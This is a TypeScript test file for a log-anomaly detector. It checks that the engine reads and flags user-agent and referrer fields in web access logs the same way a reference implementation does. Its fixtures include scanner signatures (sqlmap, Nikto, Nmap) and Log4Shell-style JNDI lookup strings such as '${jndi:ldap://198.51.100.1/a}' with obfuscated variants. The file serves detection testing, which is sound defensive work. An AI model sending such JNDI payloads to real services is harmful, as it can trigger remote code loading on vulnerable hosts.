/** User agents and referrers: what the filter reads and tells of them is what the slow reference does. */
import { beforeAll, describe, expect, it } from "vitest";
import { batchFlag, Engine } from "../../host/wasm/engine.js";
import { learningRecords, pairBytes } from "../../host/wasm/learningRecords.js";
import { seededRandom } from "../support/hostile.mjs";
import { learnText } from "../support/learning.js";
import { agentOf, findingOf, type Mark, marksOfAgent, marksOfReferrer, scanners } from "./reference/agents.js";
import type { Bytes } from "./reference/hash.js";
import { decodeModel, type ReferenceModel } from "./reference/model.js";

const seconds = 1_795_227_069n;
const chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36";
const agents = [
  ...["-", "", chrome, "curl/8.5.0", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"],
  ...[
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; quarrybot/4.0; +http://q.example/bot) Chrome/131",
  ],
  ...[
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
    "Mozilla/5.0 zgrab/0.x",
  ],
  ...["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "360Spider", "SM-G930/1.0"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: lookup expressions
  ...["${jndi:ldap://198.51.100.1/a}", "${${lower:j}ndi:x}", "%24%7Bjndi:x}", "$%7bx", "a{b}", "<script>", "o'brien/1"],
  ...[
    'Agent \\"quoted\\" \\x22 \\xc3\\xa9 \\x',
    "100%",
    "%2",
    "%24",
    "ä-bot/2",
    "Mozilla/compatible;",
    "Mozilla/5.0 mpatible;",
  ],
  ...["x".repeat(300), `${"a ".repeat(140)}sqlmap`, "a\\", "\\"],
];
const requests = [
  ...['"GET /shop/list?page=2 HTTP/1.1" 200 512', '"GET /a b HTTP/1.1" 404 -', '"GET / HTTP/1.1" 200 0'],
  ...['"GET / HTTP/1.1" 200 512 17', '"GET / HTTP/1.1" 200 - 0.017 -'],
];
const lineOf = (request: string, referrer: string, agent: string, more = "") =>
  `192.0.2.7 - - [21/Nov/2026:02:11:09 +0000] ${request} "${referrer}" "${agent}"${more}`;

let model: Uint8Array;
let reference: ReferenceModel;
beforeAll(async () => {
  const usual = [chrome, "curl/8.5.0", "<feed>/1", agents[4]];
  const lines = Array.from({ length: 3000 }, (_, i) =>
    lineOf(
      requests[0],
      i % 40 ? "https://www.example.com/" : "https://o'hara.example/",
      usual[i % 50 ? 0 : 1 + (i % 3)],
    )
      .replace("192.0.2.7", `192.0.${(i * 7 + Math.floor(i / 50)) % 60}.7`)
      .replace(":02:11:09", `:${String(10 + (i % 10))}:11:09`),
  );
  model = (await learnText(`${lines.join("\n")}\n`)).model;
  reference = decodeModel(model);
});

/** Pairs of the line, as learning reads them; undefined where it is no request. */
function pairsOf(engine: Engine, line: Bytes): bigint[] | undefined {
  for (const { records } of engine.signatures(Buffer.from(line, "latin1"), { flags: 0, seconds })) {
    const view = new DataView(records.buffer, records.byteOffset, records.byteLength);
    for (const { signatureStart, pairsStart, pairs } of learningRecords(records)) {
      if (records[signatureStart] !== 0x51) return undefined;
      const starts = Array.from({ length: pairs }, (_, pair) => pairsStart + pair * pairBytes);
      return starts
        .filter((at) => Number.isNaN(view.getFloat64(at + 8, true)))
        .map((at) => view.getBigUint64(at, true));
    }
  }
  return undefined;
}

function* randomLines(seed: number, count: number): Generator<Bytes> {
  const random = seededRandom(seed);
  const pick = <T>(of: readonly T[]) => of[Math.floor(random() * of.length)];
  const pieces = [
    ...'"\\ $({;})%<x27B4-_/.',
    "compatible; ",
    "sqlmap",
    "Mozilla/",
    '" "',
    "%24",
    "\\x22",
    "\x01",
    "\xe9",
  ];
  for (let i = 0; i < count; i++) {
    const text = () => {
      let agent = random() < 0.3 ? "https://www.example.com/?q=a" : pick(agents);
      for (let changes = Math.floor(random() * 3); changes > 0; changes--) {
        const at = Math.floor(random() * (agent.length + 1));
        agent = agent.slice(0, at) + pick(pieces) + agent.slice(at + Math.floor(random() * 2));
      }
      return agent;
    };
    const line = lineOf(pick(requests), random() < 0.4 ? "-" : text(), text(), pick(["", " rt=0.044", ' "x"']));
    yield bytesOf(random() < 0.2 ? line.slice(0, 60 + Math.floor(random() * line.length)) : line);
  }
}

const bytesOf = (text: string): Bytes => Buffer.from(text).toString("latin1");
const isLine = (line: Bytes) => !/[\n\r]/.test(line);
const withScanners = [...agents, ...scanners.map((name, i) => `A tool/1 (${i % 2 ? name : name.toUpperCase()}-x)`)];
const fixed = () => withScanners.map((agent) => bytesOf(lineOf(requests[0], "-", agent)));

describe("agents and referrers", () => {
  it("are read as the reference reads them", () => {
    const engine = new Engine();
    let marked = 0;
    for (const line of [...fixed(), ...randomLines(1, 2000)].filter(isLine)) {
      const found = pairsOf(engine, line);
      if (found === undefined) continue;
      const { referrer, agent } = agentOf(line);
      const marks: Mark[] = [...(agent ? marksOfAgent(agent) : []), ...(referrer ? marksOfReferrer(referrer) : [])];
      expect(found, line).toEqual(marks.map(({ value }) => value).slice(0, 24));
      marked += marks.length;
    }
    expect(marked).toBeGreaterThan(2000);
  });

  it("are told as the reference tells them, whatever came before", () => {
    const [engine, forgetful] = [new Engine(7n), new Engine(7n)];
    for (const each of [engine, forgetful]) each.useModel(model, "learnt here");
    const told = { family: 0, scanner: 0, character: 0, lookup: 0, nothing: 0 };
    const reasons = { family: ": no such program in 3", scanner: ": a scanner", lookup: ": a lookup expression" };
    for (const line of [...fixed(), ...fixed(), ...randomLines(2, 1500)].filter(isLine)) {
      if (pairsOf(engine, line) === undefined) continue;
      const [member, other] = [0, batchFlag.noCache].map((flags, i) => {
        const options = { flags: batchFlag.all | batchFlag.unsuppressed | flags, seconds };
        const [part] = [...[engine, forgetful][i].tag(Buffer.from(line, "latin1"), options)];
        return JSON.parse(Buffer.from(part.output).toString("latin1")).anomaly;
      });
      expect(member, line).toEqual(other);
      const finding = findingOf(agentOf(line), reference);
      const isTold = /^(user agent|referrer) "/.test(member.reason ?? "");
      if (isTold) {
        expect(finding, line).toBeDefined();
        expect(member.score, line).toBeCloseTo(Math.max(finding!.score, 1.01), 2);
        expect(member.reason).toContain(
          finding!.name === "character" ? ": no such characters in " : reasons[finding!.name],
        );
        expect(member.type).toBe("novelty");
      } else if (finding) expect(member.score, line).toBeGreaterThanOrEqual(Math.floor(finding.score * 100) / 100);
      told[isTold ? finding!.name : "nothing"]++;
    }
    expect(Math.min(...Object.values(told)), JSON.stringify(told)).toBeGreaterThan(8);
  });

  it("are read from JSON records as well", () => {
    const engine = new Engine();
    const request = { method: "GET", path: "/shop", status: 200 };
    const expected = marksOfAgent("sqlmap/1.8").map(({ value }) => value);
    for (const names of ["user_agent", "http_user_agent", "agent", "userAgent", "cs-user-agent"]) {
      expect(pairsOf(engine, JSON.stringify({ ...request, [names]: "sqlmap/1.8" })), names).toEqual(expected);
    }
    const ecs = {
      http: { request: { method: "GET", referrer: "a<b" }, response: { status_code: 200 } },
      url: { path: "/" },
    };
    const both = [...marksOfAgent("curl/8"), ...marksOfReferrer("a<b")].map(({ value }) => value);
    expect(pairsOf(engine, JSON.stringify({ ...ecs, user_agent: { name: "curl", original: "curl/8" } }))).toEqual(both);
  });
});

describe("what is kept of agents and referrers", () => {
  it.each([0, batchFlag.unsuppressed])("changes no verdict and no reason, with flags %d", (flags) => {
    const random = seededRandom(6);
    const any = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
    const engines = [0, batchFlag.noCache].map((more) => {
      const engine = new Engine(7n);
      engine.useModel(model, "learnt here");
      return { engine, flags: batchFlag.text | flags | more };
    });
    const odd = agents.filter((agent) => !["-", "", chrome].includes(agent));
    let tagged = 0;
    for (let round = 0n; round < 300n; round++) {
      const texts = [any(odd), any(odd), chrome];
      const lines = Array.from({ length: 30 }, () => `${lineOf(any(requests), any(texts), any(texts))}\n`);
      const outputs = engines.map(({ engine, flags }) =>
        [...engine.tag(Buffer.from(lines.join("")), { flags, seconds: seconds + 900n * round })].map((part) => {
          tagged += part.tagged;
          return Buffer.from(part.output).toString();
        }),
      );
      expect(outputs[0]).toEqual(outputs[1]);
    }
    expect(tagged).toBeGreaterThan(500);
  });
});
